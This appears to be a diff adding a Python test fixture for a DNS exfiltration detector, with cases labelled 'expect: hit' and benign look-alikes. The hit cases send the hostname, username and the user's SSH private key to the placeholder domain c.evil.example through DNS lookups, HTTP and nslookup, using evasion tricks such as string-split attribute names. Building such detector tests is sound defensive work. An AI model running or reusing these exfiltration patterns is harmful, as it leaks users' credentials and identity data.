@@ -1,0 +1,57 @@
+import base64
+import getpass
+import os
+import socket
+import subprocess
+
+import dns.resolver
+import requests
+
+
+def plain():
+    socket.gethostbyname(f"{socket.gethostname()}.c.evil.example")  # expect: hit
+
+
+def encoded():
+    user = base64.b32encode(getpass.getuser().encode()).decode().strip("=")
+    dns.resolver.resolve(user + ".c.evil.example", "A")  # expect: hit
+
+
+def in_address():
+    requests.get("https://" + socket.gethostname() + ".c.evil.example/")  # expect: hit
+
+
+def by_tool():
+    os.system("nslookup " + getpass.getuser() + ".c.evil.example")  # expect: hit
+
+
+def in_pieces():
+    data = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read().hex()
+    for i in range(0, len(data), 60):
+        look = getattr(socket, "get" + "addrinfo")
+        look("%s.%s" % (data[i : i + 60], "c.evil" + ".example"), 80)  # expect: hit
+
+
+def _name(data):
+    return ".".join([data, "c", "evil", "example"])
+
+
+def split():
+    __import__("socket").gethostbyname(_name(getpass.getuser()))  # expect: hit
+
+
+# look-alikes
+def own_address():
+    return socket.gethostbyname(socket.gethostname())
+
+
+def lookup(domain):
+    return dns.resolver.resolve(domain, "MX")
+
+
+def tenant(name):
+    return requests.get(f"https://{name}.api.evil.example/")
+
+
+def ping(host):
+    return subprocess.run(["ping", "-c1", host])
